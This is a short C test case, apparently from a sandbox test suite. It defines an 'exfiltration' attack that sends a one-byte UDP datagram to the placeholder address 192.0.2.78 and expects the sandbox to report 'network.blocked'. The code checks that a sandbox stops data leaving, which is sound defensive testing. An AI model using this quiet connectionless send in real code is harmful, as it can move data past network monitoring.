/* A datagram to an address. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "attempts", .gain = "what was found, sent away without a connection",
       .source = "exfiltration", .event = "network.blocked", .with = "address=192.0.2.78",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	struct sockaddr_in a = at4("192.0.2.78", 9999);
	int fd = socket_soon(AF_INET, SOCK_DGRAM);

	return fd < 0 ? -1 : sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof(a));
}
